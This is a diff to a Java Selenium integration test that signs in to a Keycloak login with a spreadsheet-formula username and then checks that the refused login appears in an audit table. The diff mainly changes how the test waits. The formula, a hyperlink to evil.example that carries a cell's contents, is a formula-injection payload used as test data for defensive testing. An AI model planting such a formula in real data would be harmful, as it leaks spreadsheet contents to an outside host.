@@ -125,7 +125,11 @@ class IgWorkspaceUiIT extends BrowserJourney {
         String formula = "=hyperlink(\"http://evil.example/?\"&a1,\"open\")-"
                 + UUID.randomUUID().toString().substring(0, 6);
         browser.signIn(formula, "Not-the-password-1");
-        browser.waitFor(By.id("username"));
+        // Keycloak answers the refused sign-in with its form again; until then the old form may be torn down
+        new org.openqa.selenium.support.ui.WebDriverWait(browser.driver(), Duration.ofSeconds(30))
+                .ignoring(org.openqa.selenium.WebDriverException.class)
+                .until(d -> d.getCurrentUrl().contains("login-actions")
+                        && d.findElement(By.id("username")).isDisplayed());
         Instant deadline = Instant.now().plus(Duration.ofSeconds(40));
         while (RequestApiClient.count("select count(*) from portal.audit_event where actor_username = ?", formula)
                 == 0) {
